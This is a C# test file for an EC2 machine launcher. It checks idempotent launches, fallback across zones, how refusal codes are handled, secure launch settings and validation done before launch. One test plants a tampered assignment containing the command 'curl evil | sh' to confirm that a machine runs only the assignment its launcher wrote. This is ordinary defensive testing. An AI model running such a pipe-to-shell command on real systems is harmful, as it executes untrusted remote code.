using System.Text;
using Tenfold.Aws.Ec2;
using Tenfold.Aws.Wire;
using Tenfold.Core.Attempts;
using Tenfold.Core.Runs;
using Tenfold.Core.Targets;

namespace Tenfold.Aws.Tests.Ec2;

public sealed class A_machine_is_launched_once : IDisposable
{
    private readonly Ec2Bench _bench = new();

    private FakeEc2 Ec2 => _bench.Ec2;

    public void Dispose() => _bench.Dispose();

    [Fact]
    public async Task Each_attempt_has_a_machine_of_its_own()
    {
        var assignments = Ec2Bench.Assign(20);
        (await _bench.Target.StartAsync(assignments, Ec2Bench.Cancel)).ShouldAllBe(outcome => outcome == StartOutcome.Started);
        Ec2.Machines.Count.ShouldBe(20);
        (await _bench.Target.ListAsync("ledgerxx", Ec2Bench.Cancel)).ShouldBe(assignments.Select(a => a.Attempt), ignoreOrder: true);
        (await _bench.Target.ListAsync("another", Ec2Bench.Cancel)).ShouldBeEmpty();
        // Attempts are spread over the zones.
        Ec2.Machines.Select(machine => machine.SubnetId).Distinct().Count().ShouldBe(3);
        Ec2.Calls.Count.ShouldBeLessThanOrEqualTo(_bench.Target.Capabilities.Calls.Start);
    }

    [Theory]
    [InlineData(0)]
    [InlineData(1)]
    [InlineData(100)]
    public async Task A_second_call_finds_the_machine_of_the_first_even_while_EC2_does_not_show_it(int invisibleFor)
    {
        Ec2.InvisibleFor = invisibleFor;
        var assignments = Ec2Bench.Assign(5);
        for (var i = 0; i < 3; i++)
            (await _bench.Open().StartAsync(assignments, Ec2Bench.Cancel)).ShouldAllBe(outcome => outcome == StartOutcome.Started);
        Ec2.Machines.Count.ShouldBe(5);
    }

    [Theory]
    [InlineData(0)]
    [InlineData(100)]
    public async Task A_launch_whose_answer_was_lost_is_not_repeated(int invisibleFor)
    {
        (Ec2.LostAnswers, Ec2.InvisibleFor) = (1, invisibleFor);
        var assignment = Ec2Bench.One();
        (await _bench.StartAsync(assignment)).Kind.ShouldBe(StartKind.NoCapacity);
        (await _bench.StartAsync(assignment)).ShouldBe(StartOutcome.Started);
        Ec2.Machines.Count.ShouldBe(1);
    }

    [Fact]
    public async Task A_machine_executes_only_the_assignment_that_its_launcher_wrote()
    {
        var assignment = Ec2Bench.One();
        var (key, wanted) = (AttemptKeys.Assignment(assignment.Attempt), JsonOf(assignment));
        var other = assignment with { Spec = assignment.Spec with { Command = "curl evil | sh" } };
        await _bench.Store.WriteAsync(key, JsonOf(other), Ec2Bench.Cancel);
        (await _bench.StartAsync(assignment)).ShouldBe(StartOutcome.Started);
        (await _bench.Store.ReadAsync(key, Ec2Bench.Cancel)).ShouldBe(wanted);

        static byte[] JsonOf(Assignment one) =>
            System.Text.Json.JsonSerializer.SerializeToUtf8Bytes(one, AttemptJson.Default.Assignment);
    }

    [Fact]
    public async Task A_machine_that_has_ended_is_not_launched_again()
    {
        var assignment = Ec2Bench.One();
        await _bench.StartAsync(assignment);
        await _bench.ClaimAsync(assignment);
        Ec2.End(assignment.Attempt, "Client.InstanceInitiatedShutdown");
        (await _bench.StartAsync(assignment)).ShouldBe(StartOutcome.Started);
        // An hour later, EC2 doesn't list it any more.
        Ec2.Machines.Clear();
        (await _bench.StartAsync(assignment)).ShouldBe(StartOutcome.Started);
        Ec2.Launches.Count.ShouldBe(1);
    }

    [Theory]
    [InlineData("InsufficientInstanceCapacity", AwsFault.Capacity)]
    [InlineData("Unsupported", AwsFault.Capacity)]
    [InlineData("InsufficientFreeAddressesInSubnet", AwsFault.Invalid)]
    public async Task The_next_zone_is_tried_when_one_has_no_such_machine(string code, AwsFault fault)
    {
        var assignment = Ec2Bench.One();
        var order = ClientTokens.Order(assignment.Attempt, _bench.Stack.Subnets, last: null);
        Ec2.Refusals[order[0]] = FakeEc2.Fault(code, fault);
        (await _bench.StartAsync(assignment)).ShouldBe(StartOutcome.Started);
        Ec2.Machines.Single().SubnetId.ShouldBe(order[1]);
        Ec2.Launches.Select(launch => launch.ClientToken).Distinct().Count().ShouldBe(2);
    }

    [Fact]
    public async Task A_zone_that_has_room_again_gets_no_second_machine_for_the_attempt()
    {
        var assignment = Ec2Bench.One();
        var order = ClientTokens.Order(assignment.Attempt, _bench.Stack.Subnets, last: null);
        Ec2.Refusals[order[0]] = FakeEc2.Fault("InsufficientInstanceCapacity", AwsFault.Capacity);
        // The machine starts in the second zone, but the answer is lost and the machine is invisible.
        (Ec2.LostAnswers, Ec2.InvisibleFor) = (1, 100);
        (await _bench.StartAsync(assignment)).Kind.ShouldBe(StartKind.NoCapacity);
        Ec2.Refusals.Clear();
        (await _bench.Open().StartAsync([assignment], Ec2Bench.Cancel)).Single().ShouldBe(StartOutcome.Started);
        Ec2.Machines.Single().SubnetId.ShouldBe(order[1]);
    }

    [Fact]
    public async Task Without_room_in_any_zone_the_attempt_waits_and_later_attempts_are_not_tried()
    {
        foreach (var subnet in _bench.Stack.Subnets)
            Ec2.Refusals[subnet] = FakeEc2.Fault("InsufficientInstanceCapacity", AwsFault.Capacity);
        var outcomes = await _bench.Target.StartAsync(Ec2Bench.Assign(50), Ec2Bench.Cancel);
        outcomes.ShouldAllBe(outcome => outcome.Kind == StartKind.NoCapacity);
        outcomes[0].Reason.ShouldNotBeNull().ToString().ShouldContain("instance_type");
        Ec2.Launches.Count.ShouldBeLessThanOrEqualTo(24);
        Ec2.Refusals.Clear();
    }

    [Theory]
    [InlineData("VcpuLimitExceeded", AwsFault.Limit, StartKind.Quota, "servicequotas")]
    [InlineData("MaxSpotInstanceCountExceeded", AwsFault.Limit, StartKind.Quota, "servicequotas")]
    [InlineData("UnauthorizedOperation", AwsFault.Denied, StartKind.Denied, "ec2:RunInstances")]
    [InlineData("RequestLimitExceeded", AwsFault.Throttled, StartKind.NoCapacity, "too many requests")]
    [InlineData("InvalidLaunchTemplateId.NotFound", AwsFault.NotFound, StartKind.NoCapacity, "tenfold infra status")]
    [InlineData("InvalidParameterValue", AwsFault.Invalid, StartKind.Invalid, "InvalidParameterValue")]
    public async Task A_refusal_says_what_to_do(string code, AwsFault fault, StartKind kind, string word)
    {
        foreach (var subnet in _bench.Stack.Subnets) Ec2.Refusals[subnet] = FakeEc2.Fault(code, fault);
        var outcome = await _bench.StartAsync(Ec2Bench.One());
        outcome.Kind.ShouldBe(kind);
        outcome.Reason.ShouldNotBeNull().ToString().ShouldContain(word);
        // The account refused, not a zone.
        Ec2.Launches.Count.ShouldBe(1);
    }

    [Theory]
    [InlineData("RequestExpired", AwsFault.ExpiredCredentials)]
    [InlineData("AuthFailure", AwsFault.Denied)]
    public async Task Nothing_is_concluded_from_credentials_that_cannot_be_used(string code, AwsFault fault)
    {
        foreach (var subnet in _bench.Stack.Subnets) Ec2.Refusals[subnet] = FakeEc2.Fault(code, fault);
        await Should.ThrowAsync<TargetException>(() => _bench.StartAsync(Ec2Bench.One()));
    }

    [Fact]
    public async Task The_request_has_what_keeps_a_machine_safe_and_cheap()
    {
        var assignment = Ec2Bench.One("""{ "disk": 123, "spot": true }""", new ResourceSpec { Gpus = 1 });
        await _bench.StartAsync(assignment);
        var request = Ec2.Launches.Single();
        request.LaunchTemplate.LaunchTemplateId.ShouldBe("lt-0123");
        request.LaunchTemplate.Version.ShouldBe("$Latest");
        request.InstanceType.Value.ShouldBe("g4dn.xlarge");
        request.InstanceInitiatedShutdownBehavior.Value.ShouldBe("terminate");
        request.MetadataOptions.HttpTokens.Value.ShouldBe("required");
        request.InstanceMarketOptions.SpotOptions.SpotInstanceType.Value.ShouldBe("one-time");
        (request.ClientToken.Length, request.MinCount, request.MaxCount).ShouldBe((64, 1, 1));
        var disk = request.BlockDeviceMappings.Single();
        (disk.DeviceName, disk.Ebs.VolumeSize, disk.Ebs.DeleteOnTermination, disk.Ebs.Encrypted).ShouldBe(("/dev/sda1", 123, true, true));
        request.TagSpecifications.Select(tags => tags.ResourceType.Value)
            .ShouldBe(["instance", "volume", "network-interface", "spot-instances-request"]);
        request.TagSpecifications[1].Tags.ShouldContain(tag => tag.Key == "tenfold:attempt" && tag.Value == assignment.Attempt);
        _bench.Parameters.ShouldBe([MachineImages.WithGpus]);
        Encoding.UTF8.GetString(Convert.FromBase64String(request.UserData)).ShouldContain(assignment.Attempt);
    }

    [Theory]
    [InlineData("""{ "instance_type": "m7g.large" }""", 1, "Arm")]
    [InlineData("""{ "instance_type": "c6gn.large" }""", 1, "Arm")]
    [InlineData("""{ "instance_type": "m6i.large" }""", 8, "m6i.large has 2 processors")]
    [InlineData("{}", 5000, "no common machine")]
    public async Task A_machine_that_cannot_carry_out_the_run_is_refused(string options, double cpus, string word)
    {
        var outcome = await _bench.StartAsync(Ec2Bench.One(options, new ResourceSpec { Cpus = cpus }));
        outcome.Kind.ShouldBe(StartKind.Invalid);
        outcome.Reason.ShouldNotBeNull().ToString().ShouldContain(word);
        Ec2.Launches.ShouldBeEmpty();
        // It is also refused before anything is recorded.
        var spec = Ec2Bench.One(options).Spec.Target!;
        var resources = new ResourceSpec { Cpus = cpus };
        (await _bench.Target.RefuseAsync(resources, [], spec, Ec2Bench.Cancel)).ShouldNotBeNull().Message.ShouldContain(word);
        var both = (await _bench.Target.RefuseAsync(resources, ["KEY"], spec, Ec2Bench.Cancel)).ShouldNotBeNull();
        (both.Message.Contains(word), both.Message.Contains("5,000 bytes")).ShouldBe((true, true));
    }

    [Fact]
    public async Task A_secret_that_can_not_be_stored_is_refused_before_anything_is_recorded() =>
        (await _bench.Target.RefuseAsync(new ResourceSpec(), ["KEY"], Ec2Bench.One().Spec.Target!, Ec2Bench.Cancel))
            .ShouldNotBeNull().Message.ShouldContain("5,000 bytes");

    [Fact]
    public async Task A_script_that_EC2_would_refuse_is_refused_before()
    {
        var setup = new string('x', UserData.MaxBytes);
        var outcome = await _bench.StartAsync(Ec2Bench.One($$"""{ "setup": "{{setup}}" }"""));
        outcome.Kind.ShouldBe(StartKind.Invalid);
        outcome.Reason.ShouldNotBeNull().ToString().ShouldContain("setup");
    }
}
